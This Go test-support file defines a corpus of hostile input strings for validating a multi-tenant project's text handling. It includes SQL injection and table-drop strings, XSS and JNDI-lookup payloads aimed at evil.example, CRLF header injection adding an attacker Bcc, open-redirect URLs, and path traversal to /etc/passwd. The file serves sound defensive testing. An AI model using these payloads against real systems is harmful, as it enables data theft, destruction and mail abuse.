// Package hostile is the corpus of hostile text the tests feed to every
// entry point of tenantry that takes text: SQL meta-characters and
// injection attempts, NUL bytes, megabyte strings, invalid UTF-8,
// bidirectional overrides, zero-width and combining characters, look-alike
// email addresses, script URLs, protocol-relative URLs, CR and LF meant to
// split mail headers, markup, format verbs and path traversal.
//
// Each entry point must either refuse a value with its package's
// invalid-input error naming the field, refuse a lookup as not found, or
// store the value verbatim (after its documented normalisation) and hand it
// back unchanged, never leaking it to another platform.
package hostile

import "strings"

// Value is one hostile string with a short name for test output.
type Value struct {
	// Name identifies the value in subtest names and failure messages.
	Name string
	// S is the hostile text itself.
	S string
}

// Megabyte is the length of the long values: 1 MiB.
const Megabyte = 1 << 20

// Values returns the corpus, in a fixed order. The slice is new on each
// call: callers may change it.
func Values() []Value {
	return []Value{
		// SQL.
		{"sql-quote", `' OR '1'='1`},
		{"sql-drop", `x'); DROP TABLE tenancy_accounts; --`},
		{"sql-comment", `admin'--`},
		{"sql-union", `1 UNION SELECT password_hash FROM tenancy_users`},
		{"sql-like-wildcards", `%_\%`},
		{"sql-double-quote", `"; SELECT pg_sleep(10); --`},
		{"sql-dollar-quote", `$$; DROP TABLE x; $$`},
		// NUL and control bytes.
		{"nul-inside", "a\x00b"},
		{"nul-only", "\x00"},
		{"ansi-escape", "\x1b[31mred\x1b[0m"},
		{"bell-backspace", "bell\a\b\b\bok"},
		// Length.
		{"1mib-ascii", strings.Repeat("A", Megabyte)},
		{"1mib-multibyte", strings.Repeat("é", Megabyte/2)},
		// Encoding.
		{"invalid-utf8", "\xff\xfe\xfd"},
		{"truncated-utf8", "abc\xe2\x82"},
		{"overlong-utf8", "\xc0\xaf\xc0\xae"},
		{"lone-surrogate", "\xed\xa0\x80"},
		// Unicode tricks.
		{"rtl-override", "invoice\u202Egnp.exe"},
		{"zero-width", "ad\u200Bmin\u200D\uFEFF"},
		{"line-separators", "a\u2028b\u2029c\u0085d"},
		{"combining", "Z\u0351\u0368\u0364\u0312a\u0336\u0353l\u0315g\u0489o"},
		{"emoji", "🏳️‍🌈 🤖💬 👩🏽‍💻"},
		{"whitespace-padded", "  \t padded \t "},
		// Email look-alikes and abuse.
		{"homoglyph-email", "admin@ex\u0430mple.com"},
		{"fullwidth-at-email", "admin\uFF20example.com"},
		{"display-name-email", "Admin <admin@example.com>"},
		{"crlf-email", "victim@example.com\r\nBcc: attacker@evil.example"},
		{"long-email", strings.Repeat("a", 64) + "@" + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + "." + strings.Repeat("d", 63) + ".example"},
		{"very-long-email", strings.Repeat("a", 5000) + "@example.com"},
		// URLs and redirects.
		{"javascript-url", "javascript:alert(document.domain)"},
		{"javascript-url-mixed-case", " JaVaScRiPt:alert(1)"},
		{"data-url", "data:text/html,<script>alert(1)</script>"},
		{"protocol-relative", "//evil.example"},
		{"backslash-host", "/\\evil.example"},
		{"tab-host", "/\t/evil.example"},
		{"userinfo-url", "https://trusted.example@evil.example/"},
		// Mail and HTTP header injection.
		{"crlf-header", "Hello\r\nBcc: attacker@evil.example"},
		{"crlf-body-split", "Hello\r\n\r\n<h1>forged body</h1>"},
		{"lf-header", "Hello\nX-Injected: 1"},
		{"cr-header", "Hello\rX-Injected: 1"},
		{"encoded-word", "=?UTF-8?B?SGVsbG8NCkJjYzogYXR0YWNrZXJAZXZpbC5leGFtcGxl?="},
		// Markup and templates.
		{"html-script", "<script>alert(1)</script>"},
		{"html-attribute", `"><img src=x onerror=alert(1)>`},
		{"template", "{{.Secret}}${jndi:ldap://evil.example/a}"},
		// Format strings.
		{"format-verbs", "%s%n%x%d%!%(MISSING)%v%p"},
		// Paths.
		{"path-traversal", "../../etc/passwd"},
		{"path-traversal-encoded", "..%2f..%2fetc%2fpasswd"},
		{"windows-path", `..\..\windows\win.ini`},
	}
}
